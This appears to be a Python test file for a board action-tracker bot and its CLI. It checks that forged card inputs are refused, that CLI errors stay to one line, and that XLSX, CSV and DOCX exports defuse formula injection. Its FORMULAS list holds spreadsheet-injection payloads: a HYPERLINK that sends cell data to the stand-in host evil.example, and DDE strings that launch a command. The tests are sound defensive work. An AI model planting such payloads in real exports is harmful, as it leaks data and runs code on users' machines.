"""Forged card data, numbers out of range, exports holding formulas, and the CLI's one-line
errors: bad input gets one clear message and changes nothing."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from datetime import date

import pytest
from aiohttp.test_utils import TestClient, TestServer
from docx import Document as WordDocument
from openpyxl import load_workbook

from board.model import Actor
from bot.app import create_app
from bot.config import Settings
from bot.replies import IGNORED_CARD
from bot.router import Match, route
from exports.tracker import export_actions, export_plan
from tests.faults.conftest import activity, closes

FORMULAS = [
    '=HYPERLINK("https://evil.example/x?"&A1,"Click for the board papers")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def _card(board, connector, kind: str, data: dict) -> tuple[int, str]:
    """Press a card button carrying ``data`` (Action.Execute invoke or Action.Submit)."""
    async with TestClient(TestServer(create_app(board, Settings(reminder_interval=0)),
                                     host="127.0.0.1")) as http:
        if kind == "invoke":
            sent = activity("06-personal-card-execute-invoke", deliveryMode="expectReplies")
            sent["value"]["action"] = {"type": "Action.Execute", "verb": data.get("verb"),
                                       "data": data}
        else:
            sent = activity("04-personal-card-submit-message-value", serviceUrl=connector.url,
                            value=data, deliveryMode="expectReplies")
        response = await http.post("/api/messages", json=sent)
        shown = await response.text() + " ".join(json.dumps(r[2]) for r in connector.requests)
        return response.status, shown


FORGED = [
    {"verb": "close", "action": 1, "view": "person:abc"},  # closed, then failed to say so
    {"verb": "close", "action": "²", "view": "mine"},
    {"verb": "close", "action": 1, "view": "show:"},
    {"verb": "close", "action": "99999999999999999999", "view": "mine"},
    {"verb": "close", "action": 99999999999999999999, "view": "mine"},
    {"verb": "close", "action": True, "view": "mine"},
    {"verb": "close", "action": -1, "view": "mine"},
    {"verb": "close", "action": 1, "view": ["mine"]},
    {"verb": "close", "action": 1, "view": "show:99999999999999999999"},
    {"verb": "more", "view": "open", "from": -5},
    {"verb": "more", "view": "open", "from": "1e9"},
    {"verb": "delete", "action": 1, "view": "mine"},
]


@pytest.mark.parametrize("kind", ["invoke", "submit"])
@pytest.mark.parametrize("data", FORGED, ids=[str(i) for i in range(len(FORGED))])
async def test_forged_card_data_is_refused_before_anything_changes(board, connector, caplog,
                                                                   kind, data):
    caplog.set_level(logging.ERROR)
    status, shown = await _card(board, connector, kind, data)
    assert status in (200, 201)
    assert IGNORED_CARD in shown
    assert closes(board) == 0 and board.clerk.action(1).status == "open"
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


@pytest.mark.parametrize("kind", ["invoke", "submit"])
async def test_a_genuine_press_on_a_persons_list_closes_and_says_so(board, connector, kind):
    jade = board.clerk.resolve_person("Jade Hodgson")
    data = {"verb": "close", "action": 1, "view": f"person:{jade.id}"}
    status, shown = await _card(board, connector, kind, data)
    assert "Closed action 1" in shown and "nothing was changed" not in shown
    assert closes(board, 1) == 1


@pytest.mark.parametrize("text", ["close action 12345678", "close action 99999999999999999999",
                                  "show action 12345678", "reopen action 99999999999999999999",
                                  "set due date of action 99999999999999999999 to 1 May"])
async def test_numbers_out_of_range_are_refused_whole_on_both_databases(talk, board, text):
    number = text.split()[text.split().index("action") + 1]
    seen = await talk("Jade Hodgson").say(text)
    assert f"There is no action {number} on the" in seen
    assert closes(board) == 0


def test_the_router_never_cuts_a_number():
    assert route("close action 12345678") == Match("close", {"number": "12345678"})
    assert route("close action 12 - sent") == Match("close", {"number": "12", "note": "sent"})


# the CLI ---------------------------------------------------------------------------------
@pytest.mark.parametrize("args, code", [
    (("close", "99999999999999999999", "--as", "Jade Hodgson"), 1),
    (("show", "99999999999999999999"), 1),
    (("audit", "--action", "99999999999999999999"), 1),
    (("due", "99999999999999999999", "1", "May", "--as", "Jade Hodgson"), 1),
    (("close", "abc", "--as", "Jade Hodgson"), 2),
    (("close", "1", "--as", "Nobody Known"), 1),
    (("export", "actions", "--out", "/nonexistent-folder/tracker.xlsx"), 1),
    (("export", "plan", "--format", "docx", "--out", "/nonexistent-folder/plan.docx"), 1),
    (("export", "actions", "--format", "pdf"), 1),
    (("actions", "--status", "sideways"), 1),
    (("no-such-command",), 2),
])
def test_every_cli_failure_is_one_error_line(board, clerk_cli, args, code):
    got, out, err = clerk_cli(*args)
    assert got == code
    assert len(err.strip().splitlines()) == 1 and err.startswith("error: "), err
    assert "Traceback" not in out + err
    assert closes(board) == 0


# exports ---------------------------------------------------------------------------------
@pytest.fixture
def formulas(make_app):
    from tests.builders import add_action, add_people

    app = make_app(admins=["Jade Hodgson"])
    add_people(app, "Jade Hodgson")
    jade = Actor.of(app.clerk.resolve_person("Jade Hodgson"), "chat")
    for index, text in enumerate(FORMULAS):
        add_action(app, text, ["Jade Hodgson"])
        app.clerk.add_plan_item(f"{text} {index}", "2024-03", jade)
    app.clerk.close_action(1, jade, FORMULAS[0])
    app.clerk.add_plan_item("Control \x01 characters \x1f", "2024-03", jade)
    return app


def _exports(app, fmt: str):
    """(export, the texts it must hold as written) for the tracker and the plan."""
    today, plan = date(2024, 1, 10), app.clerk.plan()[1]
    tracker = app.clerk.tracker()
    yield export_actions(tracker, fmt, today), [a.text for a in tracker]
    yield export_plan(plan, fmt, today), [i.title for i in plan]


def test_xlsx_exports_hold_no_formula_and_keep_the_text(formulas):
    for made, expected in _exports(formulas, "xlsx"):
        sheet = load_workbook(io.BytesIO(made.data)).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        values = {c.value for c in cells}
        xml_text = [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", t) for t in expected]
        assert [t for t in xml_text if t not in values] == []
        risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
        assert len(risky) >= len(FORMULAS) - 1 and all(c.quotePrefix for c in risky)


def test_csv_exports_neutralise_every_formula_prefix(formulas):
    for made, expected in _exports(formulas, "csv"):
        rows = list(csv.reader(io.StringIO(made.data.decode("utf-8-sig"), newline="")))
        cells = {cell for row in rows[1:] for cell in row}
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        shown = [f"'{t}" if t[:1] in "=+-@\t\r" else t for t in expected]
        assert [t for t in shown if t not in cells] == []


def test_docx_export_holds_any_title(formulas):
    made = export_plan(formulas.clerk.plan()[1], "docx", date(2024, 1, 10))
    paragraphs = [p.text for p in WordDocument(io.BytesIO(made.data)).paragraphs]
    assert "Control  characters" in paragraphs, paragraphs
    assert any(p.startswith(FORMULAS[0]) for p in paragraphs)
